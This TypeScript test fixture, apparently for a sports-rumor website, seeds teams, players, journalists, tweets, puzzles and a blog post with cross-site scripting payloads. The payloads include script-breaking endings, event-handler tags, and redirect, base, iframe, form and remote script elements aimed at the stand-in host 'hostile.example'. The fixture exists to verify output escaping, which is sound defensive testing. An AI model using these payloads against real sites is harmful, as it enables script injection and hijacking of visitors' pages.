import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { importRecords } from './import';

/** Markup in every text that pages show, in spellings that end a script, an attribute, a comment or a CDATA section. */

/** An attribute of everything that the markup would add to a page. */
export const MARK = 'data-hostile';

const ELSEWHERE = '//hostile.example/';
const ELEMENTS = [
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}" ${MARK}>`,
  `<base href=${ELSEWHERE} ${MARK}>`,
  `<iframe src=${ELSEWHERE} ${MARK}></iframe>`,
  `<form action=${ELSEWHERE} ${MARK}><button>`,
  `<img src=${ELSEWHERE}x onerror="window.hostile=1" ${MARK}>`,
  `<svg onload="window.hostile=1" ${MARK}></svg>`,
  `<script ${MARK}>window.hostile=1</script>`,
  `<script src=${ELSEWHERE} ${MARK}></script>`,
];
const ENDINGS = [
  '</script>',
  '</script >',
  '</script/>',
  '</SCRIPT\t',
  '<!--<script>',
  '"\'>',
  '--></title></style></textarea></noscript>',
  ']]>',
  '\\\'\\"</script\n>',
];

/** All endings and elements. */
export const HOSTILE = ENDINGS.map((ending, place) => ending + ELEMENTS[place % ELEMENTS.length]).join(' ');

/** What fits a name. The number chooses ending and element. */
const hostileName = (name: string, place: number) =>
  `${name} ${ENDINGS[place % ENDINGS.length]}${ELEMENTS[(place * 3) % ELEMENTS.length]}`;
const SHORT = `</script ><base ${MARK} href=${ELSEWHERE}>`;

const text = (what: string) => `${what} ${HOSTILE}`;
const url = (path: string) =>
  `https://social.example/${path}?a=${encodeURIComponent(`</script >${ELEMENTS[0]}`)}`;

const REPORTER = 'hostile_reporter';
const RUMORS = ['correct', 'incorrect', 'unconfirmable', 'pending', null] as const;
/** Of the rumor with each outcome, of one without a reporter on file, and of news. */
export const HOSTILE_TWEETS = [
  ...RUMORS.map((_, place) => `hostile-${place}`),
  'hostile-nobody',
  'hostile-news-1',
  'hostile-news-2',
  'hostile-news-3',
];

const tweet = (tweet_id: string, place: number) => ({
  tweet_id,
  tweet: text(`Report ${place}`),
  url: url(tweet_id),
  timestamp: new Date(Date.now() - place * 60_000).toISOString(),
  username: tweet_id === 'hostile-nobody' ? 'nobody_on_file' : REPORTER,
  name: hostileName('Hostile Reporter', place),
  journalists: tweet_id === 'hostile-nobody' ? [] : [REPORTER, 'danawhitlock'],
  players: ['hostile'],
  teams: ['hostile'],
  topics: ['hostile', 'hostile-open'],
  category: 'player_transaction',
  rating: tweet_id.includes('news') ? 'good_information' : 'good_rumor',
  resolution: RUMORS[place] ?? null,
  resolution_source: { url: url('source'), note: text('Source').slice(0, 500) },
  impressiveness: 2,
  outcomes: [],
});

/** Imports one of each kind of record, all texts of which are hostile. */
export function importHostileTexts(
  dataDir: string,
  puzzle: { gameNumber: number; string_date: string },
): void {
  const kinds = {
    teams: [{ name: hostileName('Hostile Team', 1), slug: 'hostile', nicknames: [SHORT] }],
    players: [
      { name: hostileName('Hostile Player', 2), slug: 'hostile', team: 'hostile', nicknames: [SHORT] },
    ],
    journalists: [
      {
        name: hostileName('Hostile Reporter', 4),
        username: REPORTER,
        bio: text('Bio'),
        affiliation: `${hostileName('Desk', 3)}/${hostileName('Podcast', 5)}`,
        sports: hostileName('NBA', 6),
        tier: SHORT,
        team: 'hostile',
        badges: ['rumors', SHORT],
        show_on_homepage: true,
        good_tweets_v2: [{ tweet_id: 'hostile-0', description: text('Well said') }],
        bad_tweets_v2: [{ tweet_id: 'hostile-1', description: text('Badly said') }],
      },
    ],
    topics: ['hostile', 'hostile-open'].map((slug, place) => ({
      name: hostileName('Hostile Story', place),
      slug,
      short_name: SHORT,
      description: text('Description'),
      resolution: place === 0 ? text('Resolution') : null,
      resolution_source: { url: url('source'), note: text('Source').slice(0, 500) },
      players: ['hostile'],
      teams: ['hostile'],
      show_on_homepage: true,
    })),
    tweets: HOSTILE_TWEETS.map(tweet),
    'hall-of-shame': [
      {
        tweet_id: 'hostile-1',
        tweet_text: text('Flop'),
        url: url('flop'),
        username: REPORTER,
        name: hostileName('Hostile Reporter', 4),
        tier: SHORT,
        timestamp: '2026-06-01T00:00:00Z',
        description: text('Flop'),
      },
    ],
    comparisons: [
      {
        title: hostileName('Comparison', 7),
        description: text('Comparison'),
        woj_tweet_id: 'hostile-0',
        woj_tweet_text: text('One'),
        woj_timestamp: '2026-06-01T00:00:00Z',
        shams_tweet_id: 'hostile-1',
        shams_tweet_text: text('Other'),
        shams_timestamp: '2026-06-02T00:00:00Z',
        winner: 'woj',
      },
    ],
    puzzles: [
      { ...puzzle, target_phrase: hostileName('Player', 0), free_hint: SHORT, hints: [SHORT, SHORT, SHORT] },
    ],
  };
  for (const [kind, records] of Object.entries(kinds)) importRecords(dataDir, kind, records);
}

/** Fields of documents of the CMS that pages show. */
const SHOWN = new Set([
  'text',
  'alt',
  'copyright',
  'caption',
  'source',
  'label',
  'meta_title',
  'meta_description',
]);

/** Adds hostile texts to everything that a document shows. */
const withHostileTexts = (value: unknown, key = ''): unknown => {
  if (typeof value === 'string') return SHOWN.has(key) ? text(value) : value;
  if (Array.isArray(value)) return value.map((item) => withHostileTexts(item, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, field]) => [name, withHostileTexts(field, name)]),
  );
};

/** Copies the documents of the blog, and adds a post at `/blog/hostile` with every kind of section. */
export function writeHostileDocuments(folder: string): void {
  cpSync('prismic/documents', folder, { recursive: true });
  const read = (uid: string) => JSON.parse(readFileSync(join(folder, `${uid}.json`), 'utf8'));
  const [post, ...others] = ['story-of-fadeaway', 'into-the-hall-of-shame', 'how-to-read-a-resolution'].map(
    read,
  );
  const slices = [post, ...others].flatMap(({ data }) => data.slices);
  const hostile = withHostileTexts({ ...post.data, slices });
  const document = { ...post, id: 'hostile', uid: 'hostile', tags: [SHORT], data: hostile };
  writeFileSync(join(folder, 'hostile.json'), JSON.stringify(document));
}
